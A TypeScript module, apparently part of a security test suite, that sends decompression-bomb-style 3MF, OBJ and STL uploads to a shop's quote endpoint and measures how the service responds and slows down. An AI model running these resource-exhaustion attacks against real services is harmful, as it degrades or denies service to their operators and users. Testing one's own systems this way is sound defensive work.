import type { Attack, AttackContext, Finding } from "./attack.ts";
import { bytes, describeAnswer, seconds } from "./describe.ts";
import { type Answer, send } from "./http-probe.ts";
import { componentBomb3mf, freshSmallStl, hostileStl, objFaceBomb } from "./payloads.ts";

/** An anonymous quote of these bytes, as a visitor of the shop would ask for one. */
function quote(ctx: AttackContext, body: Uint8Array, source: string, limitMs: number): Promise<Answer> {
  return send({
    url: `${ctx.targets.shop}/quotes`,
    method: "POST",
    headers: { "content-type": "application/octet-stream" },
    body,
    localAddress: source,
    limitMs,
  });
}

const answerOf = (a: Answer): Finding => ({ answer: describeAnswer(a), ms: a.ms });

export const componentBomb: Attack = {
  id: "1",
  title: "3MF component bomb (13 levels x 4, 4^13 triangles) to Shop POST /quotes",
  limitMs: 60_000,
  loadsMesh: true,
  async run(ctx) {
    const bomb = componentBomb3mf();
    const finding = answerOf(await quote(ctx, bomb, ctx.source("1"), this.limitMs));
    return { ...finding, answer: `${finding.answer}; file ${bytes(bomb.length)}` };
  },
};

export const objFaceAttack: Attack = {
  id: "2",
  title: "OBJ face of 5.31 million vertex refs to Shop POST /quotes",
  limitMs: 60_000,
  loadsMesh: true,
  async run(ctx) {
    const obj = objFaceBomb();
    const finding = answerOf(await quote(ctx, obj, ctx.source("2"), this.limitMs));
    return { ...finding, answer: `${finding.answer}; file ${bytes(obj.length)}` };
  },
};

/** Yields the bytes, then reports that they were handed to the socket. */
async function* announced(buf: Uint8Array, written: () => void): AsyncIterable<Uint8Array> {
  yield buf;
  written();
}

export const quoteBesideHostileStl: Attack = {
  id: "6",
  title: "4-triangle quote while a hostile STL (300k triangles, corners at x = k*16384) is quoted",
  limitMs: 90_000,
  loadsMesh: true,
  async run(ctx) {
    // The victim's quote alone first, as the yardstick for the same quote beside the hostile one.
    const victim = ctx.source("6, its victim");
    const alone = await quote(ctx, freshSmallStl(), victim, this.limitMs);
    const stl = hostileStl();
    let markSent = () => {};
    const sent = new Promise<void>((resolve) => {
      markSent = resolve;
    });
    const hostile = send({
      url: `${ctx.targets.shop}/quotes`,
      method: "POST",
      headers: { "content-type": "application/octet-stream", "content-length": stl.length },
      stream: announced(stl, markSent),
      localAddress: ctx.source("6"),
      limitMs: this.limitMs,
    });
    await Promise.race([sent, hostile]);
    // A moment for the upload to reach a 3D worker, so the small quote meets it there.
    await new Promise((r) => setTimeout(r, 300));
    const beside = await quote(ctx, freshSmallStl(), victim, this.limitMs);
    const h = await hostile;
    return {
      answer:
        `small quote ${describeAnswer(beside)} in ${seconds(beside.ms)} (alone before: ${describeAnswer(alone)} in ` +
        `${seconds(alone.ms)}); hostile STL (${bytes(stl.length)}): ${describeAnswer(h)} after ${seconds(h.ms)}`,
      ms: beside.ms,
    };
  },
};
